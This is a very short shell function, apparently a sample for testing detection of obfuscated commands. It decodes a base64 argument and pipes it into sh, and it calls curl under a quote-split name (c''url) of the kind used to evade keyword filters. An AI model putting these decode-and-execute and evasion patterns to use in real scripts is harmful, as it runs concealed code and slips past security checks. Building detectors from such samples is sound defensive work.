run() {
    echo "$1" | base64 -d | sh
    c''url -s "$2"
    echo "plain"
}
